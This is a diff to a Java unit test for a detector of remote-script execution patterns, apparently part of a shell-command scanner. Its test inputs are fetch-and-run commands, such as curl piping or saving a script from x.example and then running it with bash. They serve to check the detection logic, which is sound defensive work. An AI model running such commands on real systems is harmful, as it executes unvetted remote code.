@@ -24,6 +24,12 @@ class RemoteScriptsTest {
     }
 
     @Test
+    void aDownloadRedirectedToAFileAndThenRunIsAMatch() {
+        var matches = RemoteScripts.find("curl -fsSL https://x.example/i.sh > install.sh\nbash install.sh");
+        assertThat(matches).singleElement().satisfies(m -> assertThat(m.form()).isEqualTo(RemoteScripts.Form.DOWNLOAD_THEN_RUN));
+    }
+
+    @Test
     void commentsAreNotCommands() {
         assertThat(RemoteScripts.find("# never do `curl | sh`\n  # curl https://x.example/i.sh | bash\necho ok")).isEmpty();
         assertThat(RemoteScripts.find("echo a#b; curl https://x.example/i.sh | bash")).hasSize(1);
